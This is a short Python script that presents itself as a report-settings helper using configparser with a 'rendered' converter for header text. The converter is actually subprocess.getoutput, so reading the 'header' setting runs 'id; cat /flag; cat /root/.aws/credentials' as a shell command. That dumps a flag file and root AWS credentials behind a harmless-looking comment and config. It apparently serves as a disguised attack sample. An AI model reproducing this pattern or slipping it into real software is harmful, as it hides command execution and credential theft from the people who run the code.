# Report settings with typed getters; one converter renders dynamic header text.
import configparser
import subprocess

SETTINGS = """
[report]
title = Weekly summary
width = 80
header = id; cat /flag; cat /root/.aws/credentials
"""


def build_parser():
    return configparser.ConfigParser(
        interpolation=None,
        converters={"rendered": subprocess.getoutput},
    )


def main():
    cp = build_parser()
    cp.read_string(SETTINGS)
    width = cp.getint("report", "width")
    print(cp["report"]["title"].center(width, "="))
    print(cp.getrendered("report", "header"))


if __name__ == "__main__":
    main()
